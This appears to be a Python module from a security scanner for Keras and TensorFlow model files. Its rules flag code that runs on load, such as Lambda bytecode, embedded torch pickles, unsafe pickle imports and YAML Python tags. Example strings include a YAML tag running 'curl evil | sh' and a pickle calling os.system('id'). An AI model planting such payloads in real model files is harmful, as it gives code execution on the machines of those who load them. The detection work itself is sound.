"""KG1xx: code that runs when the model is loaded: in the config, in payloads, in legacy YAML.

KG101 Lambda bytecode, KG102 TorchModuleWrapper pickles, KG103 TFSMLayer external SavedModels;
KG104 pickle imports and KG105 NumPy data unpickled on load (pickle streams walked by opcode, never
unpickled), KG106 SavedModel graph ops that call back into Python, KG107 Python tags in legacy YAML.
The Lambda facts (where each function is, its decoded bytecode summary) come from
:mod:`kerasguard.formats.lambdas`; bytecode is never unmarshalled. This module only judges them.
"""

from __future__ import annotations

import base64
import binascii
import dataclasses
from collections.abc import Iterator

from packaging.version import InvalidVersion, Version

from kerasguard.findings import Severity
from kerasguard.formats import config_walk as cw
from kerasguard.formats.artifact import (
    Artifact,
    JsonDocument,
    PickleGlobal,
    PickleInfo,
)
from kerasguard.formats.lambdas import lambda_functions
from kerasguard.rules.base import Hit, Rule, RuleContext, allowance, capped
from kerasguard.rules.pickle_safety import canonical, danger_reason, safe_reason
from kerasguard.rules.tf_ops import PY_CALLBACK_OPS, group_ops, is_python_callback, op_scope
from kerasguard.suppressions import allowlist_may_clear

LEGACY_H5_FORMATS = frozenset({"legacy_model", "hdf5", "h5"})


def is_legacy_h5(art: Artifact, doc: JsonDocument) -> bool:
    """A config read from a legacy .h5 root attribute (loaded without safe_mode before 3.11.3)."""
    if doc.location.h5path is not None or art.format in LEGACY_H5_FORMATS:
        return True
    return any(
        h5.role == "legacy_model"
        and h5.location.file == doc.location.file
        and h5.location.member == doc.location.member
        for h5 in art.h5_files
    )


def check_kg101(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
    for fn in lambda_functions(art):
        cves = ("CVE-2025-9905",) if is_legacy_h5(art, fn.document) else ()
        carries = (
            "carries Python bytecode"
            if fn.code_bytes
            else "holds a function in an encoding this scanner cannot decode, so it is treated as code "
            f"({fn.code_type}); Python bytecode"
        )
        yield Hit(
            cw.at(fn.document, fn.pointer),
            f"{fn.owner} {carries} that runs when the model is loaded with "
            "safe_mode=False, by Keras < 2.13, by legacy .h5 loading before 3.11.3, by tf-keras, or by "
            f"direct from_config calls before 3.12.3/3.15.0 ({_size(fn.code_bytes)})",
            evidence=fn.summary.describe(),
            cves=cves,
        )


def _size(code_bytes: int) -> str:
    return "no decodable code" if not code_bytes else f"{code_bytes} bytes of marshal data"


def describe_payload(text: str) -> str:
    """What a base64 TorchModuleWrapper payload starts with (the nested-blob scan reports the rest)."""
    chunk = "".join(text[:256].split())[:64]
    chunk = chunk[: len(chunk) // 4 * 4]
    head = base64.b64decode(chunk.encode("ascii", "replace"), validate=False)[:8]
    if head.startswith(b"PK"):
        return "a zip archive (torch.save format; its data.pkl is a pickle)"
    if head[:1] == b"\x80":
        return f"a pickle (protocol {head[1]})" if len(head) > 1 else "a pickle"
    return "data that is neither a zip nor a pickle"


def check_kg102(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
    for doc, ref in cw.refs(art):
        cfg = ref.config
        if ref.class_name != "TorchModuleWrapper" or not isinstance(cfg, dict):
            continue
        module = cfg.get("module")
        if not isinstance(module, str) or not module.strip():
            continue
        try:
            what = describe_payload(module)
        except (binascii.Error, ValueError):
            what = "text that is not valid base64"
        yield Hit(
            cw.at(doc, f"{ref.pointer}/config/module"),
            f"TorchModuleWrapper {ref.layer_name or ''!r} embeds a torch.save payload "
            f"({len(module)} base64 characters, {what}) that torch.load(weights_only=False) unpickles "
            "when the model is loaded with safe_mode=False or by Keras 3.11.0-3.11.2",
            evidence=f"module={module[:40]!r}...",
        )


# --- KG103 -----------------------------------------------------------------------------------------


def check_kg103(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
    for doc, ref in cw.refs(art):
        cfg = ref.config if isinstance(ref.config, dict) else {}
        if ref.kind != "class":
            continue
        if ref.class_name == "TFSMLayer":
            path = cfg.get("filepath")
            shown = path if isinstance(path, str) else "<missing>"
            scheme = cw.scheme_of(shown)
            remote = (
                f"; {scheme}:// is remote: the loader fetches it (server-side request)"
                if scheme and scheme != "file"
                else ""
            )
            yield Hit(
                cw.at(doc, ref.pointer),
                f"TFSMLayer loads the TensorFlow SavedModel at {shown!r} and runs its graph{remote}",
                evidence=f"filepath={shown!r}, call_endpoint={cfg.get('call_endpoint')!r}",
            )
        elif ref.class_name == "KerasLayer" and isinstance(cfg.get("handle"), str):
            handle = cfg["handle"]
            yield Hit(
                cw.at(doc, ref.pointer),
                f"tensorflow_hub KerasLayer loads the SavedModel at {handle!r} and runs its graph",
                evidence=f"handle={handle!r}",
                severity=Severity.HIGH,
            )


def _check_kg107(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
    hits = [
        Hit(
            tag.location,
            f"YAML tag {tag.tag!r} on line {tag.line}: an unsafe YAML loader imports or calls the named "
            "Python object while reading the file",
            evidence=tag.raw,
        )
        for tag in art.yaml_tags
        if tag.is_python
    ]
    yield from capped(hits, art.location, "Python YAML tags")


PICKLE_GLOBALS_RULE, PICKLE_GLOBALS_SEVERITY = "KG104", Severity.CRITICAL  # check_pickle_globals's rule


KERAS_NPZ_PICKLE_FIXED = Version("3.9.0")  # 57c94f305c: NpzIOStore stopped using allow_pickle=True


def keras_older_than(ctx: RuleContext, fixed: Version) -> bool:
    """Whether the Keras that will load the file predates ``fixed``; unknown counts as older."""
    if ctx.keras_version is None:
        return True
    try:
        return Version(ctx.keras_version) < fixed
    except InvalidVersion:
        return True


def _where(info: PickleInfo) -> str:
    return "the object array's pickled data" if info.role == "npy_object" else "the pickle"


def _pickle_hit(info: PickleInfo, glob: PickleGlobal, full: str, count: int) -> Hit:
    where = _where(info)
    times = f" ({count} times)" if count > 1 else ""
    evidence = f"{glob.opcode} at byte {glob.position}: {full}{times}"
    if not glob.resolved:
        return Hit(
            info.location,
            f"{where} builds an import from values computed while unpickling ({glob.opcode} operands "
            f"{glob.module!r}, {glob.name!r} are not constants): what it imports cannot be known "
            "before it runs",
            evidence,
        )
    reason = danger_reason(full)
    if reason is not None:
        message = f"{where} imports {full}, which {reason}; unpickling can call it with chosen arguments"
    else:
        message = (
            f"{where} imports {full}, which is not on the safe list of data-rebuilding functions; "
            "unpickling imports it and can call it"
        )
    return Hit(info.location, message, evidence)


def check_pickle_globals(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
    allow = ctx.policy.allow
    for info in art.pickles:
        # one finding per distinct import (and one for all unresolved ones), with a count
        seen: dict[str, tuple[PickleGlobal, int]] = {}
        for glob in info.globals:
            full = canonical(glob.module, glob.name) if glob.resolved else ""
            if glob.resolved and safe_reason(full):
                continue
            first, count = seen.get(full, (glob, 0))
            seen[full] = (first, count + 1)
        for full, (glob, count) in seen.items():
            hit = _pickle_hit(info, glob, full, count)
            if _keras_own_npz_pickle(info, full, ctx):
                hit = Hit(
                    hit.location,
                    hit.message + "; the Keras that will load this file reads npz weights with "
                    "allow_pickle=False, so only other numpy.load(allow_pickle=True) readers would run it",
                    hit.evidence,
                    severity=Severity.MEDIUM,
                )
            entry = allow.allows("pickle_globals", full) if full else None
            if entry is not None:
                # Recorded, never silent: cleared (and shown as allowed) or, for a found policy and a
                # high or critical import, kept (decision 37).
                severity = hit.severity or PICKLE_GLOBALS_SEVERITY
                applied = allowlist_may_clear(ctx.policy, PICKLE_GLOBALS_RULE, severity)
                hit = dataclasses.replace(hit, allowance=allowance(ctx.policy, entry, applied))
            yield hit


# What Keras itself pickles into object arrays when it saves npz weights (variables, jax arrays).
KERAS_NPZ_PICKLE_PACKAGES = ("keras", "jax")


def _keras_own_npz_pickle(info: PickleInfo, full: str, ctx: RuleContext) -> bool:
    """An object-array pickle of the kind Keras writes, judged for a Keras (>= 3.9) that refuses to load it.

    Anything else (os, subprocess, builtins, unresolved imports) keeps its full severity.
    """
    return (
        info.role == "npy_object"
        and full.split(".", 1)[0] in KERAS_NPZ_PICKLE_PACKAGES
        and not keras_older_than(ctx, KERAS_NPZ_PICKLE_FIXED)
    )


def check_numpy_pickles(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
    # Keras >= 3.9 loads npz weights with allow_pickle=False: the pickle then only endangers other readers.
    severity = Severity.CRITICAL if keras_older_than(ctx, KERAS_NPZ_PICKLE_FIXED) else Severity.MEDIUM
    for npy in art.npy_arrays:
        if npy.has_object:
            yield Hit(
                npy.location,
                f"object-dtype array (descr {npy.descr}): its data is a pickle that "
                "numpy.load(allow_pickle=True) unpickles, as Keras 3.0-3.8 does for model.weights.npz",
                f"descr={npy.descr} shape={npy.shape}",
                severity=severity,
            )
    for info in art.pickles:
        if info.role == "pickle" and info.name.lower().endswith((".npz", ".npy")):
            yield Hit(
                info.location,
                f"{info.name} is neither a zip nor an .npy but a raw pickle: numpy.load(allow_pickle=True) "
                "unpickles it, as Keras 3.0-3.8 does for model.weights.npz",
                f"pickle protocol {info.protocol}, {len(info.globals)} imports, {info.calls} calls",
                severity=severity,
            )


def check_python_callback_ops(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
    found = ((op, PY_CALLBACK_OPS.get(op.op, "a Python callback op")) for op in art.graph_ops)
    for op, api, count in group_ops((op, api) for op, api in found if is_python_callback(op.op)):
        tokens = [v for k, v in op.attrs if k == "token"]
        yield Hit(
            op.location,
            f"graph op {op.op} ({api}) in {op_scope(op, count)} calls back into Python in the loading "
            "process",
            f"node={op.node}" + (f" token={tokens[0]}" if tokens else ""),
        )


RULES: tuple[Rule, ...] = (
    Rule(
        id="KG101",
        name="lambda-bytecode",
        title="Lambda layer carries Python bytecode",
        severity=Severity.CRITICAL,
        cwe="CWE-94",
        cves=("CVE-2024-3660", "CVE-2026-12481"),
        rationale=(
            "A Lambda (Keras 3 '__lambda__' object, Keras 2 'function' list or function_type 'lambda') "
            "stores marshalled Python bytecode, rebuilt by func_load and run when the layer is called while "
            "the model is reconstructed. safe_mode blocks it only for .keras files in Keras >= 2.13, for "
            "legacy .h5 from 3.11.3 (CVE-2025-9905), and for direct from_config calls from 3.12.3/3.15.0 "
            "(CVE-2026-12481); tf-keras never does. The evidence lists the names the code uses (read without "
            "unmarshalling)."
        ),
        remediation=(
            "Do not load the file. Replace Lambda layers with registered custom layers whose code you ship "
            "and review."
        ),
        check=check_kg101,
        example='{"class_name": "__lambda__", "config": {"code": "4wEAAAAA...", ...}}',
        references=("https://kb.cert.org/vuls/id/253266",),
    ),
    Rule(
        id="KG102",
        name="torch-module-pickle",
        title="TorchModuleWrapper embeds a pickled torch module",
        severity=Severity.CRITICAL,
        cwe="CWE-502",
        cves=("CVE-2025-49655",),
        rationale=(
            "TorchModuleWrapper stores its module as base64 of torch.save() and restores it with "
            "torch.load(weights_only=False), which unpickles arbitrary objects. Keras 3.11.0-3.11.2 did so "
            "under safe_mode. The payload is decoded and scanned as a nested member (its pickle globals are "
            "reported by the pickle rules)."
        ),
        remediation="Do not load the file; never load TorchModuleWrapper models from untrusted sources.",
        check=check_kg102,
    ),
    Rule(
        id="KG103",
        name="external-savedmodel-layer",
        title="Layer loads an external SavedModel",
        severity=Severity.CRITICAL,
        cwe="CWE-829",
        cves=("CVE-2026-1462",),
        rationale=(
            "TFSMLayer.from_config calls tf.saved_model.load(filepath): an attacker-chosen SavedModel "
            "(local, relative or remote such as gs://) whose graph runs when the layer is called. Keras "
            "< 3.12.1 and 3.13.0-3.13.1 allowed it under safe_mode. tensorflow_hub KerasLayer handles work "
            "the same way (high)."
        ),
        remediation="Do not load the file. Ship the SavedModel's layers in the model itself.",
        check=check_kg103,
    ),
    Rule(
        id="KG107",
        name="yaml-python-tag",
        title="Legacy YAML config with Python object tags",
        severity=Severity.CRITICAL,
        cwe="CWE-502",
        cves=("CVE-2021-37678",),
        rationale=(
            "Legacy Keras YAML configs were read with `yaml.unsafe_load` (TensorFlow < 2.3.4, 2.4.x < "
            "2.4.3, 2.5.0: CVE-2021-37678). YAML tags under `tag:yaml.org,2002:python/` "
            "(`!!python/object/apply`, `!!python/name`, `!!python/module`, `!!python/object/new`...) make "
            "such a loader import modules and call functions while it builds the document, before any "
            "model exists: arbitrary code execution. Keras never writes these tags. Critical because "
            "the payload runs on read. Tags are found by text search with %TAG handles and %-escapes "
            "resolved, never by running a YAML loader."
        ),
        remediation=(
            "Do not load the file. Legacy YAML configs are not supported by Keras 3; rebuild the model "
            "from trusted code or a `.keras` file. If YAML must be read, use `yaml.safe_load` only."
        ),
        example='`class_name: !!python/object/apply:os.system ["curl evil | sh"]`',
        references=(
            "https://github.com/advisories/GHSA-r6jx-9g48-2r5r",
            "https://pyyaml.org/wiki/PyYAMLDocumentation",
        ),
        check=_check_kg107,
    ),
    Rule(
        id="KG104",
        name="pickle-unsafe-import",
        title="Pickle imports a callable outside the safe list",
        severity=Severity.CRITICAL,
        cwe="CWE-502",
        rationale=(
            "Unpickling runs code: GLOBAL, INST and STACK_GLOBAL import any name, and REDUCE, BUILD and "
            "NEWOBJ call it with arguments from the file. A pickle that only rebuilds data needs a handful "
            "of names (numpy array and dtype reconstruction, built-in containers, collections.OrderedDict, "
            "torch tensor rebuild functions and storages). Any other import, such as os.system, "
            "subprocess, builtins.eval or getattr, runpy or importlib, lets the file run commands when it "
            "is loaded. An import whose module or name is computed while unpickling cannot be checked "
            "statically and is treated the same way. kerasguard walks the opcodes and never unpickles."
        ),
        remediation=(
            "Do not load the file. Re-export the weights in a format without code (.keras with "
            "model.weights.h5, safetensors). If a specific import is legitimate for your pipeline, add it "
            "to [tool.kerasguard.allow] pickle_globals with a reason."
        ),
        check=check_pickle_globals,
        example=(
            "`cos\\nsystem\\n(S'id'\\ntR.`: a protocol 0 pickle that runs `os.system('id')` when loaded."
        ),
        references=(
            "https://docs.python.org/3/library/pickle.html#restricting-globals",
            "https://github.com/trailofbits/fickling",
        ),
    ),
    Rule(
        id="KG105",
        name="numpy-pickle",
        title="NumPy data that is unpickled on load",
        severity=Severity.CRITICAL,
        cwe="CWE-502",
        rationale=(
            "An object-dtype .npy stores its data as a pickle, and numpy.load treats any file that is "
            "neither a zip nor an .npy as a pickle. Keras 3.0-3.8 loads model.weights.npz with "
            "numpy.load(allow_pickle=True), so such a member runs code at load time even with "
            "safe_mode=True (no CVE; modelscan PR #262). Keras never writes object arrays into weights. "
            "Critical when the Keras that will load the file is older than 3.9 (or unknown); high "
            "otherwise, because any other tool that loads it with allow_pickle=True is exposed."
        ),
        remediation=(
            "Do not load the file. Upgrade Keras to 3.9 or later, and re-save the weights from a trusted "
            "model as model.weights.h5."
        ),
        check=check_numpy_pickles,
        references=(
            "https://github.com/protectai/modelscan/pull/262",
            "https://github.com/keras-team/keras/commit/57c94f305c",
            "https://numpy.org/doc/stable/reference/generated/numpy.load.html",
        ),
    ),
    Rule(
        id="KG106",
        name="savedmodel-python-callback",
        title="SavedModel graph calls back into Python",
        severity=Severity.CRITICAL,
        cwe="CWE-94",
        rationale=(
            "PyFunc, PyFuncStateless and EagerPyFunc (tf.numpy_function, tf.py_func, tf.py_function) run a "
            "Python callable of the loading process, chosen by a token in the graph, with tensors from the "
            "model. The code itself is not in the file, so what runs depends on what the loading process "
            "registered; a model that needs it cannot be verified and is not portable."
        ),
        remediation=(
            "Do not serve the model. Ask the publisher for a graph without Python callbacks, or run it only "
            "inside a sandbox with no network and no secrets."
        ),
        check=check_python_callback_ops,
        references=("https://www.tensorflow.org/api_docs/python/tf/py_function",),
    ),
)
